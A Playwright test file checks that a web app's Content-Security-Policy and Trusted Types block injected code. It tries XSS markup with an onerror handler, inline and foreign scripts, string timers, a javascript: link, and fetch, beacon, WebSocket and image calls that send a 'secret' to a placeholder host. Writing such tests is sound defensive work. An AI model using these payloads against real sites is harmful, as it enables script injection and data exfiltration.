// The Content-Security-Policy and Trusted Types: what the page needs works, what it does not need is blocked.
import type { Page } from '@playwright/test';
import { expect, test } from './fixture';
import { open, run, untilPrinted } from './threadbox';

/** Tries what an injected script would try. @returns what was not blocked */
function attack(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const { trustedTypes } = window;
    // A host that does not exist: what is not blocked fails in another way.
    const elsewhere = 'https://elsewhere.invalid/';
    const inject = (tag: 'script' | 'style' | 'iframe' | 'img' | 'base' | 'a', set: object) =>
      document.body.appendChild(Object.assign(document.createElement(tag), set));
    const attempts: Record<string, () => unknown> = {
      markup: () => inject('a', { innerHTML: '<img src=x onerror="globalThis.owned = true">' }),
      'inline script': () => inject('script', { textContent: 'globalThis.owned = true' }),
      'script of another host': () => inject('script', { src: `${elsewhere}x.js` }),
      'another script of this host': () => inject('script', { src: './assets/x.js' }),
      'string timer': () => setTimeout('globalThis.owned = true' as unknown as () => void),
      'worker of a blob': () => new Worker(URL.createObjectURL(new Blob(['']))),
      'worker of another script': () => new Worker('./assets/x.js'),
      'service worker of another script': () => navigator.serviceWorker.register('./x.js'),
      'second policy': () => trustedTypes?.createPolicy('mine', { createScriptURL: (address) => address }),
      'second default policy': () => trustedTypes?.createPolicy('default', { createScriptURL: (address) => address }),
      request: () => fetch(`${elsewhere}?secret`),
      socket: () => new WebSocket('wss://elsewhere.invalid/'),
      beacon: () => navigator.sendBeacon(elsewhere, 'secret'),
      image: () => inject('img', { src: `${elsewhere}?secret` }),
      frame: () => inject('iframe', { src: elsewhere }),
      'inline style': () => inject('style', { textContent: 'body { display: none }' }),
      base: () => inject('base', { href: elsewhere }),
      'javascript: link': () => (inject('a', { href: 'javascript:globalThis.owned = true' }) as HTMLAnchorElement).click(),
    };
    const done: string[] = [];
    for (const [name, attempt] of Object.entries(attempts)) {
      const violated = new Promise<boolean>((resolve) => {
        addEventListener('securitypolicyviolation', () => resolve(true), { once: true });
      });
      try {
        // What the policy forbids throws, or is reported soon after.
        await Promise.race([attempt(), violated]);
        if (!(await Promise.race([violated, new Promise((resolve) => setTimeout(resolve, 5000, false))]))) done.push(name);
      } catch {
        // It was blocked.
      }
    }
    if ('owned' in globalThis) done.push('a script');
    return done;
  });
}

test('policy: it allows neither inline scripts nor styles nor eval, and names no host', async ({ request }) => {
  const policy = (await request.get('./')).headers()['content-security-policy'] ?? '';
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain("require-trusted-types-for 'script'");
  expect(policy).not.toMatch(/unsafe-inline|'unsafe-eval'|\*|https?:|strict-dynamic|nonce-|blob:/);
});

test('policy: what an injected script would do is blocked', async ({ page, offences }) => {
  await open(page);
  expect(await attack(page)).toEqual([]);
  await run(page, 'print("it runs")');
  await untilPrinted(page, 'it runs');
  offences.length = 0;
});

test('policy: it holds also where the host does not send it', async ({ page, offences }) => {
  await page.route('**/*', async (route) => {
    const response = await route.fetch();
    const { 'content-security-policy': _, ...headers } = response.headers();
    await route.fulfill({ response, headers });
  });
  await open(page);
  expect(await attack(page)).toEqual([]);
  await run(page, 'print("it runs")');
  await untilPrinted(page, 'it runs');
  offences.length = 0;
  await page.unrouteAll({ behavior: 'ignoreErrors' });
});

test('policy: a violation fails a test', async ({ page, offences }) => {
  await open(page);
  await page.evaluate(() => {
    const style = document.createElement('style');
    style.textContent = 'p { color: red }';
    document.head.append(style);
  });
  await expect.poll(() => offences.join()).toContain('Content Security Policy');
  offences.length = 0;
});
